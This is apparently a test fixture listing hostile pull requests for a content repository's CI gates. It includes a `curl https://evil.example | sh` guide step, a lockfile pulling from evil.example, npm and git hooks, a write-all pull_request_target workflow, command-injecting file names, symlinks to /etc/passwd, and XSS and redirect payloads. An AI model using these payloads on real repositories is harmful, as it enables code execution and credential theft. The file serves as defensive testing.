/** Pull requests that nobody should send, as git keeps them, and what each must come to. */
import { readFileSync } from 'node:fs'

/** What a pull request puts at a path: a text, bytes, a symbolic link, another repository (a submodule), or nothing. */
export type Put = string | Uint8Array | { link: string } | { submodule: string } | null

/** A pull request that nobody should send. */
export interface HostilePull {
  name: string
  /** By path. */
  puts: Record<string, Put>
  /** What the check must say of its words: the code, by the beginning of the file's path. */
  told?: Record<string, string>
  /** Whether it changes more than words, so that an owner must look. */
  owner?: true
  /** Which step of content.yml must end it, where it is not the check. */
  stops?: 'checkout' | 'words'
  /** Whether it would hide what others do, so that it is tried by itself only. */
  alone?: true
}

/** A program that leaves a mark. Whatever runs it, `RAN` is then there. */
export const mark = 'touch "$RAN"'
const program = `import('node:fs').then((fs) => fs.writeFileSync(process.env.RAN, ''))`

const som1 = readFileSync('content/articles/som1-opening/zh-hk.mdx', 'utf8')
const article = (body: string): string => som1.replace(/^(---\n[^]*?\n---\n)[^]*/, `$1\n${body}\n`)
const more = (file: string, text: string): string => `${readFileSync(`content/${file}`, 'utf8').replace(/\n*$/, '\n')}${text}\n`
const workflow = (file: string): string => readFileSync(`.github/workflows/${file}`, 'utf8')

const source = (lines: string): string =>
  more('sources.yml', `evil:\n  kind: report\n  publication: 報\n  published: null\n${lines}`).replaceAll('\n\n', '\n')

/** An article of its own with one paragraph, and the code that refuses it. */
const refused = (name: string, body: string, code: string): HostilePull => {
  const folder = `content/articles/${name.replace(/[^a-z0-9]+/g, '-')}`
  return { name, puts: { [`${folder}/zh-hk.mdx`]: article(body) }, told: { [`${folder}/zh-hk.mdx`]: code } }
}

/** A file at a path of content/ at which no file may be. */
const misplaced = (name: string, path: string, code: string, text: Put = article('甲。')): HostilePull => ({
  name,
  puts: { [`content/${path}`]: text },
  told: { [`content/${path.split('/').slice(0, 3).join('/')}`]: code },
})

/** A pull request that leaves the words alone. */
const code = (name: string, puts: Record<string, Put>): HostilePull => ({ name, puts, owner: true })

const known = readFileSync('test/check/hostile.jsonl', 'utf8')
  .trim()
  .split('\n')
  .map((line, index) => ({ ...(JSON.parse(line) as { name: string; mdx: string }), slug: `known-${index + 1}` }))

/** All of them. Names of files are bytes: what is not UTF-8 stands as `\xff`, a byte a letter. */
export const hostilePulls: HostilePull[] = [
  // Outside of content/: what would run, what would judge, what would own.
  code('a workflow with all rights, started by anybody', {
    '.github/workflows/new.yml': `name: new\non: pull_request_target\npermissions: write-all\njobs:\n  a:\n    runs-on: self-hosted\n    steps:\n      - run: echo "\${{ github.event.pull_request.title }}" && ${mark}\n`,
  }),
  code('a content workflow that takes the code of the pull request', {
    '.github/workflows/content.yml': workflow('content.yml').replace('ref: ${{ github.event.pull_request.base.sha }}', 'clean: false'),
  }),
  code('a comment workflow with a secret', {
    '.github/workflows/content-comment.yml': workflow('content-comment.yml').replace(
      'GITHUB_TOKEN: ${{ github.token }}',
      'GITHUB_TOKEN: ${{ secrets.ADMIN }}',
    ),
  }),
  code('settings of npm that run a program', {
    '.npmrc': `ignore-scripts=false\nscript-shell=${mark}\nnode-options=--require=./evil.cjs\n`,
  }),
  code('scripts of npm', {
    'package.json': JSON.stringify({ type: 'module', scripts: { preinstall: mark, prepare: mark, check: mark, build: mark } }),
  }),
  code('a lock that takes a package from elsewhere', {
    'package-lock.json': JSON.stringify({
      lockfileVersion: 3,
      packages: { 'node_modules/yaml': { version: '2.9.1', resolved: 'https://evil.example/yaml.tgz', hasInstallScript: true } },
    }),
  }),
  code('owners in a file that GitHub reads first', { '.github/CODEOWNERS': '* @attacker\n' }),
  code('owners who are gone', { CODEOWNERS: '/content/\n' }),
  code('hooks of git, and settings of an editor that run at once', {
    '.husky/pre-commit': mark,
    '.githooks/post-checkout': mark,
    '.vscode/tasks.json': JSON.stringify({ tasks: [{ command: mark, runOptions: { runOn: 'folderOpen' } }] }),
  }),
  code('a check that finds nothing', {
    'src/integrations/check/cli.ts': program,
    'tools/pull-requests/findings.ts': program,
    'tools/pull-requests/review.ts': program,
    'tools/ready.js': program,
  }),
  code('rules for workflows that allow all', { 'test/repository/workflow-rules.ts': 'export const findWrong = () => []\n' }),
  code('a configuration that is a program', { 'astro.config.mjs': program, 'vitest.config.ts': program, 'eslint.config.js': program }),
  code('another Node', { '.nvmrc': 'file:///tmp/evil\n' }),
  code('a page that no gate reads', { 'public/evil.html': '<script>alert(1)</script>' }),
  {
    name: 'attributes by which the files are not what the reviewer sees',
    puts: {
      '.gitattributes': 'content/** working-tree-encoding=UTF-16LE-BOM\n*.mdx filter=evil diff=evil merge=evil export-subst ident\n',
      '.lfsconfig': '[lfs]\n  url = https://evil.example/\n',
    },
    told: { content: 'file-encoding' },
    owner: true,
    alone: true,
  },
  code('a submodule whose address is an option', {
    '.gitmodules': `[submodule "tools/evil"]\n  path = tools/evil\n  url = "-u./payload"\n  update = !${mark}\n`,
    'tools/evil': { submodule: '1'.repeat(40) },
  }),
  code('a guide that tells writers to run a program', {
    'content/README.md': '```sh\nnpm run check; curl https://evil.example | sh\n```\n',
  }),
  code('a name that differs from content/ in its case', { 'Content/articles/a/zh-hk.mdx': article('甲。') }),
  code('a name that begins like content/', { 'content.yml': '甲', 'content\n/x': '乙' }),
  {
    name: 'a text that is moved out to where programs are',
    puts: { 'content/articles/som1-opening/zh-hk.mdx': null, 'content/articles/som1-opening/en.mdx': null, 'src/client/evil.ts': som1 },
    told: { content: 'redirect-missing' },
    owner: true,
    alone: true,
  },
  // Other things than files, and files at odd places.
  { name: 'content/ is a link', puts: { content: { link: '/etc' } }, owner: true, alone: true, stops: 'words' },
  { name: 'content/ is a file', puts: { content: 'x' }, owner: true, alone: true, stops: 'words' },
  {
    name: 'content/ is another repository',
    puts: { content: { submodule: '1'.repeat(40) } },
    owner: true,
    alone: true,
    stops: 'words',
  },
  { name: 'content/ is gone', puts: { content: null }, alone: true, stops: 'words' },
  {
    name: 'an entry is another repository',
    puts: { 'content/articles/evil': { submodule: '1'.repeat(40) } },
    alone: true,
    stops: 'words',
  },
  { name: 'a way out of the folder', puts: { 'content/../../evil': mark }, alone: true, stops: 'checkout' },
  { name: 'a folder of git', puts: { 'content/.git/hooks/post-checkout': mark }, alone: true, stops: 'checkout' },
  misplaced('a folder that is a link', 'articles/link', 'file-link', { link: '/etc' }),
  misplaced('a text that is a link', 'articles/secret/zh-hk.mdx', 'file-link', { link: '/etc/passwd' }),
  misplaced('a picture that is a link', 'articles/som1-opening/a.png', 'file-link', { link: '../../../package.json' }),
  {
    name: 'a dictionary that is a link',
    puts: { 'content/dictionary/names.yml': { link: '../../src/site.config.ts' } },
    told: { 'content/dictionary/names.yml': 'file-link' },
    alone: true,
  },
  misplaced('settings of npm among the words', '.npmrc', 'file-unknown', `script-shell=${mark}\n`),
  misplaced(
    'scripts of npm among the words',
    'package.json',
    'file-unknown',
    JSON.stringify({ type: 'commonjs', scripts: { check: mark } }),
  ),
  misplaced('packages among the words', 'node_modules/yaml/index.js', 'file-unknown', program),
  misplaced('a workflow among the words', '.github/workflows/a.yml', 'file-unknown', workflow('test.yml')),
  { ...misplaced('attributes of git among the words', '.gitattributes', 'file-unknown', '* working-tree-encoding=UTF-16\n'), alone: true },
  misplaced('what git passes over, among the words', '.gitignore', 'file-unknown', '*\n'),
  misplaced('a page among the words', 'pages/evil/index.html', 'file-unknown', '<script>alert(1)</script>'),
  misplaced('a file named like an option', '--help.mdx', 'file-unknown'),
  misplaced('a folder named like an option', 'articles/--format=json/zh-hk.mdx', 'file-name'),
  misplaced('a name that is a command', 'articles/;touch $RAN;/zh-hk.mdx', 'file-name'),
  misplaced('a name with a command in it', 'articles/$(touch $RAN)`touch $RAN`/zh-hk.mdx', 'file-name'),
  misplaced('a name that is an expression of workflows', 'articles/${{ github.token }}/zh-hk.mdx', 'file-name'),
  // GitHub's list has a line of its own for what stands behind the break, so that an owner is asked as well.
  { ...misplaced('a name with lines of its own', 'articles/a\n::error file=x::said by a name\n/zh-hk.mdx', 'file-name'), owner: true },
  misplaced('a name that turns the terminal', 'articles/\x1b[2Ja\x07\u202e/zh-hk.mdx', 'file-name'),
  misplaced('a name that is no text', 'articles/\\xff\\xfe/zh-hk.mdx', 'file-name'),
  misplaced('a name that Windows takes for a device', 'articles/con/zh-hk.mdx', 'file-name'),
  misplaced('a name that differs in its case', 'articles/SOM1-opening/zh-hk.mdx', 'file-name'),
  misplaced('a file whose name differs in its case', 'articles/som1-opening/ZH-HK.mdx', 'file-unknown'),
  misplaced('a path without end', `articles/deep/${'a/'.repeat(500)}zh-hk.mdx`, 'file-unknown'),
  misplaced(
    'a picture that is a pointer to elsewhere',
    'articles/som1-opening/b.png',
    'image-format',
    `version https://git-lfs.github.com/spec/v1\noid sha256:${'0'.repeat(64)}\nsize 12345\n`,
  ),
  misplaced(
    'a picture that is a page',
    'articles/som1-opening/c.png',
    'image-format',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  ),
  misplaced(
    'a text that is a pointer to elsewhere',
    'articles/pointer/zh-hk.mdx',
    'frontmatter-missing',
    `version https://git-lfs.github.com/spec/v1\noid sha256:${'0'.repeat(64)}\nsize 12345\n`,
  ),
  misplaced('a text of three megabytes', 'articles/large/zh-hk.mdx', 'file-size', article('甲'.repeat(1_000_000))),
  // Words that attack whoever builds, reads or reviews them.
  refused('import and an expression', `import { writeFileSync } from 'node:fs'\n\n{writeFileSync(process.env.RAN, '')}`, 'mdx-import'),
  {
    name: 'a layout that is a program',
    puts: { 'content/articles/layout/zh-hk.mdx': article('甲。').replace('---\n', `---\nlayout: "data:text/javascript,${program}"\n`) },
    told: { 'content/articles/layout/zh-hk.mdx': 'key-unknown' },
  },
  refused('a handler in a tag', '<img src="x" onerror="alert(1)" />', 'tag-unknown'),
  refused('a letter that nobody sees', '甲\u202e乙。', 'hidden-character'),
  refused('a link that shows another host', '見[www.gov.hk](https://evil.org/)。', 'link-text'),
  refused(
    'words that would call people and end a block',
    '因为 ``````` @everyone @owner/team <!-- ![](https://evil.example/p.png) [x](https://evil.example) {x}',
    'mdx-syntax',
  ),
  {
    name: 'attacks that are known, an article each',
    puts: Object.fromEntries(known.map(({ slug, mdx }) => [`content/articles/${slug}/zh-hk.mdx`, mdx])),
    told: Object.fromEntries(known.map(({ slug }) => [`content/articles/${slug}/`, ''])),
  },
  // Data that would send readers elsewhere.
  {
    name: 'redirects to other sites',
    puts: {
      'content/redirects.yml': more(
        'redirects.yml',
        'articles/a: { to: "https://evil.example/" }\narticles/b: { to: "//evil.example" }\n"articles/c https://evil.example 301": { to: articles/som1-opening }\n"articles/d\\n/* https://evil.example 302": { to: articles/som1-opening }',
      ),
    },
    told: { 'content/redirects.yml': 'value-invalid' },
  },
  {
    name: 'rules of the dictionary that make a link, a tag, another host',
    puts: {
      'content/dictionary/terms.yml': more(
        'dictionary/terms.yml',
        '壞:\n  官網甲: { cn: "[官网](https://evil.example)" }\n  官網乙: { cn: "<b onclick=alert(1)>官网</b>" }\n  官網丙: { cn: "www.gov.cn" }',
      ),
    },
    told: { 'content/dictionary/terms.yml': '' },
  },
  {
    name: 'words of the interface that are HTML',
    puts: {
      'content/ui/zh-hk.yml': readFileSync('content/ui/zh-hk.yml', 'utf8').replace(
        /^(\s*(?:"?framework\.name"?)):.*$/m,
        `$1: "x<meta http-equiv=refresh content='0;url=https://evil.example/'>"`,
      ),
    },
    told: { 'content/ui/zh-hk.yml': '' },
  },
  {
    name: 'sources that run, and that show another host',
    puts: { 'content/sources.yml': source('  headlines: ["https://www.gov.hk/"]\n  url: javascript:alert(1)\n') },
    told: { 'content/sources.yml': '' },
  },
]
